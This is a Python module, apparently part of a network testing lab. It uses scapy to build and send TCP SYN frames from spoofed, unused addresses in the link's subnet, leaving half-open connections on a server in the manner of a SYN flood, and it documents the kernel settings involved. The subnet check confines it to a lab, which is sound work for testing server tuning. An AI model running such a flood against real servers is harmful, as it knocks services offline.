"""Half-open connections, as a SYN flood leaves them behind.

Every SYN comes from an address that no container has. No host therefore answers the server's SYN-ACK with a RST, and
the entry stays in the SYN queue until the wait for an answer to the last SYN-ACK ends: see tcp_max_syn_backlog,
tcp_synack_retries and tcp_syncookies in https://docs.kernel.org/networking/ip-sysctl.html.

The server's kernel asks for the MAC addresses of these neighbours, and gets no answer. After three seconds (arp(7),
mcast_solicit), it reports to itself that the host is unreachable, and drops the entry. It sends at most about fifty of
these reports at once (icmp_msgs_burst, ip-sysctl), so most of a large queue stays.
"""

import errno
import ipaddress
import socket
import time
from collections.abc import Sequence
from typing import Final

from scapy.arch import get_if_hwaddr
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether, getmacbyip

from tuneproof.lab.protocol.netadmin import HalfOpened

from .addresses import interface_network, unused_addresses
from .links import ROLE_LINK, open_link

MOST_SOURCES: Final = 64
"""The server's kernel has one neighbour table for all containers, with room for 1024 (arp(7), gc_thresh3)."""
_FIRST_PORT: Final = 1024
_WITHIN_S: Final = 20.0
_PAUSE_S: Final = 0.001


def syn_frames(sources: Sequence[str], *, macs: tuple[str, str], address: str, port: int, count: int) -> list[bytes]:
    """Return SYNs to a server, at most 64512, from the sources in turn, each from a different port.

    ``macs``: the source's and the target's.
    """
    frame = Ether(src=macs[0], dst=macs[1])
    # Most systems send this value: with it, the server need not use smaller segments than usual.
    options = [("MSS", 1460)]
    return [
        bytes(
            frame
            / IP(src=sources[number % len(sources)], dst=address)
            / TCP(sport=_FIRST_PORT + number, dport=port, flags="S", seq=number, window=65535, options=options)
        )
        for number in range(count)
    ]


def flood(address: str, *, port: int, count: int) -> HalfOpened:
    """Send SYNs to a server in the link's subnet from unused addresses (OSError, ValueError: impossible)."""
    own = interface_network(ROLE_LINK)
    if ipaddress.IPv4Address(address) not in own.network:
        raise ValueError(f"{address} is not in {own.network}, the subnet of {ROLE_LINK}")
    sources = unused_addresses(own.network, used=(str(own.ip), address), count=MOST_SOURCES)[:count]
    mac = getmacbyip(address)
    if mac is None:
        raise OSError(f"no MAC address is known for {address}")
    frames = syn_frames(sources, macs=(get_if_hwaddr(ROLE_LINK), mac), address=address, port=port, count=count)
    with open_link() as link:
        began_s = time.monotonic()
        _send(link, frames)
        seconds = time.monotonic() - began_s
    return HalfOpened(sent=len(frames), seconds=seconds)


def _send(link: socket.socket, frames: Sequence[bytes]) -> None:
    """Send frames as fast as the link takes them; its queue may be full (packet(7), ENOBUFS)."""
    deadline_s = time.monotonic() + _WITHIN_S
    waiting = list(reversed(frames))
    while waiting:
        try:
            link.send(waiting[-1])
        except OSError as error:
            if error.errno != errno.ENOBUFS:
                raise
            if time.monotonic() > deadline_s:
                raise TimeoutError(f"{ROLE_LINK} did not take {len(frames)} frames within {_WITHIN_S:g} s") from error
            time.sleep(_PAUSE_S)
        else:
            waiting.pop()
